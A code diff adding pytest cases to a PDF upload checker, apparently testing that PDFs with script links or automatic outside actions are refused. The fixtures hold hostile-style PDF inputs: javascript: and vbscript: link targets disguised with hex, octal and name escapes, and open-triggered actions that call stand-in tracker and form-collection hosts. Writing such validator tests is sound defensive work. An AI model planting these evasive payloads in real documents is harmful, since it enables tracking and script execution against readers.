@@ -413,6 +413,64 @@ def test_active_content_is_refused(catalog_extra: bytes, page_extra: bytes, more
     assert refused("a.pdf", hand_made_pdf(catalog_extra, page_extra, *more)).code == "pdf_active_content"
 
 
+def link_annotation(action: bytes) -> tuple[bytes, bytes, bytes]:
+    """catalog_extra, page_extra and object 4 for hand_made_pdf: a link annotation running ``action``."""
+    return b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A " + action + b" >>"
+
+
+@pytest.mark.parametrize(
+    ("catalog_extra", "page_extra", "more"),
+    [
+        link_annotation(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>"),
+        link_annotation(b"<< /S /URI /URI ( JavaScript:this.print\\(\\)) >>"),
+        link_annotation(b"<< /S /URI /URI <6a6176617363726970743a616c6572742831293b> >>"),  # hex string
+        link_annotation(b"<< /S /URI /URI (\\152ava\\tscript:x) >>"),  # octal escape and a tab
+        link_annotation(b"<< /S /URI /URI (vbscript:msgbox) >>"),
+        link_annotation(b"<< /S /U#52I /URI (data:text/html,<script>x</script>) >>"),
+        link_annotation(b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/form) >> >>"),
+        (b"/URI << /Base (javascript:x) >>", b"", b""),
+        (b"/OpenAction 4 0 R", b"", b"<< /S /URI /URI (https://tracker.example/opened) >>"),
+        (b"/OpenAction 4 0 R", b"", b"<< /S /SubmitForm /F (https://collect.example/) /Flags 4 >>"),
+        (b"", b"/AA << /O 4 0 R >>", b"<< /S /GoTo /D [3 0 R /Fit] /Next [5 0 R] >>"),
+    ],
+)
+def test_script_links_and_outside_actions_are_refused(catalog_extra: bytes, page_extra: bytes, more: bytes) -> None:
+    """Issue 12 item 6: javascript: links (however written) and form submission or addresses opened by themselves."""
+    objects = [more] if more else []
+    if b"5 0 R" in page_extra + more:
+        objects.append(b"<< /S /URI /URI (https://tracker.example/page) >>")
+    data = hand_made_pdf(catalog_extra, page_extra, *objects)
+    rejection = refused("a.pdf", data)
+    assert rejection.code == "pdf_outside_action"
+    assert "脚本" in rejection.message and "外部网址" in rejection.message
+
+
+def test_a_javascript_link_written_by_pypdf_is_refused() -> None:
+    from pypdf.annotations import Link
+
+    writer = PdfWriter()
+    writer.add_blank_page(width=200, height=200)
+    writer.add_annotation(0, Link(rect=(0, 0, 50, 50), url="javascript:app.alert(1)"))
+    buffer = io.BytesIO()
+    writer.write(buffer)
+    assert refused("a.pdf", buffer.getvalue()).code == "pdf_outside_action"
+
+
+@pytest.mark.parametrize(
+    ("catalog_extra", "page_extra", "more"),
+    [
+        link_annotation(b"<< /S /URI /URI (https://www.gov.cn/zhengce/) >>"),
+        link_annotation(b"<< /S /URI /URI (mailto:office@example.gov.cn) >>"),
+        link_annotation(b"<< /S /URI /URI (zhengce/index.html) >>"),  # relative: no scheme of its own
+        (b"/OpenAction [3 0 R /Fit]", b"", b""),  # opens at page one: stays in the document
+        (b"/URI << /Base (https://www.gov.cn/) >>", b"", b""),
+    ],
+)
+def test_ordinary_links_and_opening_views_are_accepted(catalog_extra: bytes, page_extra: bytes, more: bytes) -> None:
+    data = hand_made_pdf(catalog_extra, page_extra, *([more] if more else []))
+    assert accepted("a.pdf", data).content_type == uploads.PDF
+
+
 def test_document_level_javascript_and_attachments_are_refused() -> None:
     scripted = PdfWriter()
     scripted.add_blank_page(width=200, height=200)
